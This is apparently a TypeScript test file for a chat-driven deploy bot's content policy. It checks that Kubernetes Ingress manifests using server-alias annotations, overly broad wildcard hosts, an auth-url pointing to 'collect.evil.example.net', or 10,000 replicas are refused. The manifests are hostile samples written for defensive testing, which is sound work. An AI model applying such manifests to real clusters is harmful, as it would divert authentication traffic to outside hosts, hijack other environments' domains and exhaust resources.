import { expect } from "chai";
import { type Harness } from "../../helpers/harness.js";
import { useHarness } from "../../helpers/use-harness.js";
import { SHAS } from "../deploy/helpers.js";

// Ingress hosts an attacker can reach without naming them in spec.rules: ingress-nginx's server-alias annotation
// (extra server names for the same backend) and a wildcard whose base is above another environment's domain
// (*.github.example.com in production also matches staging.github.example.com). Both refused, through the router.

const ADMIN = { user: "UADMIN", channel: "CDEPLOYS" };

async function deployManifest(h: Harness, branch: string, sha: string, yaml: string) {
  const store = h.sandbox.github.store;
  store.addCommit("octo/github", { sha, message: branch, parents: [SHAS.main] });
  store.setBranch("octo/github", branch, sha);
  store.setStatus("octo/github", sha, "ci/image", "success");
  store.setFile("octo/github", sha, "config/kubernetes/production/zz-ingress.yaml", yaml);
  return h.run(`/deploy ${branch} to production --dry-run`, ADMIN);
}

describe("content policy: Ingress hosts outside spec.rules (through the router)", function () {
  this.timeout(30_000);
  const h = useHarness();

  it("refuses an ingress-nginx server-alias outside the environment's domain", async () => {
    const t = await deployManifest(h, "alias-trick", "a1a5000000000000000000000000000000000001", [
      "apiVersion: networking.k8s.io/v1",
      "kind: Ingress",
      "metadata:",
      "  name: alias",
      "  annotations: { nginx.ingress.kubernetes.io/server-alias: \"api.github.example.com, Staging.github.example.com evil.example.net\" }",
      "spec: { rules: [{ host: api.github.example.com }] }",
    ].join("\n"));
    expect(t.final?.tone, t.text).to.equal("error");
    expect(t.text).to.include("nothing was applied");
    expect(t.text).to.include("Ingress alias: Ingress host staging.github.example.com (server-alias) is not under github.example.com");
    expect(t.text).to.include("Ingress host evil.example.net (server-alias) is not under github.example.com");
    expect(t.text).to.not.include("api.github.example.com (server-alias)");
  });

  it("refuses a wildcard host that also matches another environment's domain, and keeps one that does not", async () => {
    const wild = await deployManifest(h, "wildcard-trick", "a1a5000000000000000000000000000000000002", [
      "apiVersion: networking.k8s.io/v1",
      "kind: Ingress",
      "metadata: { name: wild }",
      "spec: { rules: [{ host: \"*.github.example.com\" }] }",
    ].join("\n"));
    expect(wild.final?.tone, wild.text).to.equal("error");
    expect(wild.text).to.include("Ingress wild: Ingress host *.github.example.com also matches staging.github.example.com, which is not this target's domain");

    const fine = await deployManifest(h, "wildcard-fine", "a1a5000000000000000000000000000000000003", [
      "apiVersion: networking.k8s.io/v1",
      "kind: Ingress",
      "metadata: { name: wild-api }",
      "spec: { rules: [{ host: \"*.api.github.example.com\" }] }",
    ].join("\n"));
    expect(fine.text, fine.text).to.include("Dry run: Deploy branch wildcard-fine");
    expect(fine.text).to.include("Ingress wild-api");
  });

  it("refuses an auth-url outside the environment's domain and 10,000 replicas, naming each object and rule", async () => {
    const t = await deployManifest(h, "exfil-trick", "a1a5000000000000000000000000000000000004", [
      "apiVersion: networking.k8s.io/v1",
      "kind: Ingress",
      "metadata:",
      "  name: login",
      "  annotations: { nginx.ingress.kubernetes.io/auth-url: \"https://collect.evil.example.net/auth\" }",
      "spec: { rules: [{ host: github.example.com }] }",
      "---",
      "apiVersion: apps/v1",
      "kind: Deployment",
      "metadata: { name: swarm }",
      "spec:",
      "  replicas: 10000",
      "  selector: { matchLabels: { app: swarm } }",
      "  template: { metadata: { labels: { app: swarm } }, spec: { containers: [{ name: app, image: registry.example.com/github:abc }] } }",
    ].join("\n"));
    expect(t.final?.tone, t.text).to.equal("error");
    expect(t.text).to.include("nothing was applied");
    expect(t.text).to.include("Ingress login: annotation nginx.ingress.kubernetes.io/auth-url sends traffic to collect.evil.example.net, which is not under github.example.com");
    expect(t.text).to.include("Deployment swarm: replicas 10000 is more than the 50 allowed");
  });
});
